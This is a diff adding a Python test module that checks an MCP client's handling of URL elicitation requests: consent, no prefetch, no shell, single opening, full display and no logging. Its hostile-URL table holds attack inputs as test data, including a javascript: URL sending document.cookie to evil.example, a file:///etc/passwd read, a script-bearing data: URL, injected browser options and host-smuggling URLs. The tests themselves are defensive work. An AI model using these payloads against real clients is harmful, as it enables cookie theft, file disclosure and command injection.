@@ -1,0 +1,168 @@
+"""A URL is shown, agreed to, and only then opened."""
+
+from __future__ import annotations
+
+from mcp_elicit_client.testing.scenarios.base import ADDRESS, HOST, URL_MODE, URLS, Group, visit
+from mcp_elicit_client.testing.trial import NotReachedError, Trial
+from mcp_elicit_client.testing.wish import Deed
+
+GROUP = Group("URLs")
+
+_CONSENT = '"MUST NOT open the URL without explicit consent from the user"'
+
+
+def _not_opened(deed: Deed, name: str, title: str, source: str) -> None:
+    async def run(trial: Trial) -> None:
+        if deed != "leave":
+            trial.needs_user()
+            await trial.accepts(visit(f"https://{HOST}/control"))
+        reply = await trial.ask(visit(), deed)
+        opened = trial.watch.opened("ticket=4711")
+        trial.expect(not opened, f"the user did not agree, and it was opened ({opened[0].name if opened else ''})")
+        trial.expect(not reply.accepted, f"the user did not agree, and the server got {reply}")
+
+    GROUP.add(name, title, run, because=_CONSENT, source=source)
+
+
+_not_opened(
+    "decline",
+    "url-not-opened-when-declined",
+    "A URL that the user declines is not opened.",
+    URLS,
+)
+_not_opened(
+    "leave",
+    "url-not-opened-by-nobody",
+    "Where nobody is there, no URL is opened or agreed to.",
+    f"{URLS}; fast-agent, mcp/elicitation_handlers.py:191-221, which accepts by itself",
+)
+
+
+@GROUP.scenario(
+    "url-mode-gets-an-answer",
+    "A URL request gets an answer, also from whoever serves only forms.",
+    because="code written for forms fails without requestedSchema; accept, decline, cancel and -32602 are right",
+    source="2025-11-25, client/elicitation, Error Handling",
+)
+async def _url_answered(trial: Trial) -> None:
+    reply = await trial.ask(visit(), "decline")
+    if trial.raised:
+        trial.expect(False, f"{type(trial.raised[0]).__name__} was raised")
+    code = None if reply.error is None else reply.error.get("code")
+    trial.expect(reply.result is not None or code in (-32602, -32601, -32600), f"the server got {reply}")
+
+
+@GROUP.scenario(
+    "url-not-fetched",
+    "Nothing of a URL is fetched or looked up.",
+    because='"MUST NOT automatically pre-fetch the URL or any of its metadata"; the browser does that, after consent',
+    source=URLS,
+)
+async def _not_fetched(trial: Trial) -> None:
+    deeds: tuple[Deed, ...] = ("decline", "accept") if trial.subject.user else ("leave",)
+    for deed in deeds:
+        reply = await trial.ask(visit(), deed)
+        if reply.result is None:
+            raise NotReachedError(f"URL requests are not served: the server got {reply}")
+        reached = trial.watch.reached(HOST)
+        trial.expect(not reached, f"the host was looked up or reached ({reached[0].name if reached else ''})")
+
+
+@GROUP.scenario(
+    "url-not-through-a-shell",
+    "A URL is not handed to a shell.",
+    because="a shell runs what is in the URL; the SDK's own example did it",
+    source="modelcontextprotocol/python-sdk#2082; 2025-11-25, basic/security_best_practices",
+)
+async def _no_shell(trial: Trial) -> None:
+    await trial.accepts(visit())
+    trial.expect(not trial.watch.through_shell("ticket=4711"), "it was handed to a shell")
+
+
+@GROUP.scenario(
+    "url-opened-once",
+    "A URL is opened once at most.",
+    because="what is at a URL may act at each visit: links are made to be used once",
+    source="found in a host (facts of this project)",
+)
+async def _once(trial: Trial) -> None:
+    await trial.accepts(visit())
+    opened = trial.watch.opened("ticket=4711")
+    trial.expect(len(opened) <= 1 or len({each.name for each in opened}) > 1, f"it was opened {len(opened)} times")
+
+
+@GROUP.scenario(
+    "url-shown-whole",
+    "The user is shown the whole URL before agreeing.",
+    because='"MUST show the full URL to the user for examination before consent"',
+    source=f"{URLS}; FastMCP CLI, fastmcp/cli/client.py:184, which never prints it",
+)
+async def _shown(trial: Trial) -> None:
+    trial.needs_user()
+    marker = "Please sign in, 4712"
+    await trial.accepts(visit(message=marker))
+    trial.shows("4712")
+    trial.expect(ADDRESS in trial.shown, "the user is shown the message, and not the URL")
+
+
+_HOSTILE: dict[str, tuple[str, str, str]] = {
+    "javascript": ("javascript:fetch('//evil.example/'+document.cookie)//4711", "javascript:", "CVE-2025-58444"),
+    "file": ("file:///etc/passwd#4711", "file:", "openai/codex#37077"),
+    "data": ("data:text/html,<script>4711</script>", "data:", "openai/codex#37077"),
+    "option": (
+        "--renderer-cmd-prefix=/tmp/4711",
+        "an option of the browser's in the place of a URL",
+        "CVE-2026-4519",
+    ),
+    "program": ("calc.exe?4711", "a program in the place of a URL", "CPython issue 80202"),
+    "backslash": (
+        "https://evil.example\\@bank.example/4711",
+        "a backslash: Python reads bank.example, a browser goes to evil.example",
+        "security facts, 4 (measured with Chromium)",
+    ),
+    "line-break": (
+        "https://bank.example\r\nHost: evil.example/4711",
+        "line breaks, which browsers drop and terminals obey",
+        "security facts, 3 and 4",
+    ),
+}
+
+
+def _hostile(kind: str, url: str, what: str, source: str) -> None:
+    async def run(trial: Trial) -> None:
+        trial.needs_user()
+        await trial.accepts(visit())
+        before = len(trial.watch.events)
+        reply = await trial.ask(visit(url), "accept")
+        opened = [each for each in trial.watch.events[before:] if each in trial.watch.opened("4711")]
+        trial.expect(not opened, f"it was opened ({opened[0].name if opened else ''})")
+        trial.expect(not reply.accepted, f"the server got {reply}")
+
+    GROUP.add(
+        f"url-{kind}-refused",
+        f"A URL with {what} is refused."
+        if kind in ("backslash", "line-break")
+        else f"Instead of a URL, {what}: refused."
+        if kind in ("option", "program")
+        else f"A {what} URL is refused.",
+        run,
+        because='"The url parameter MUST contain a valid URL", and only http and https lead to a page to consent to',
+        source=f"{URL_MODE}; {source}",
+    )
+
+
+for _kind, (_url, _what, _source) in _HOSTILE.items():
+    _hostile(_kind, _url, _what, _source)
+
+
+@GROUP.scenario(
+    "url-not-logged",
+    "A URL is not logged whole.",
+    because="the path and query of such URLs are tickets; a log is read by others, and later",
+    source="fast-agent, mcp/elicitation_handlers.py:191-221 (at level INFO)",
+)
+async def _not_logged(trial: Trial) -> None:
+    reply = await trial.ask(visit(), "decline")
+    if reply.result is None:
+        raise NotReachedError(f"URL requests are not served: the server got {reply}")
+    trial.expect(not any("ticket=4711" in line for line in trial.watch.logged), "it is in the log, ticket and all")
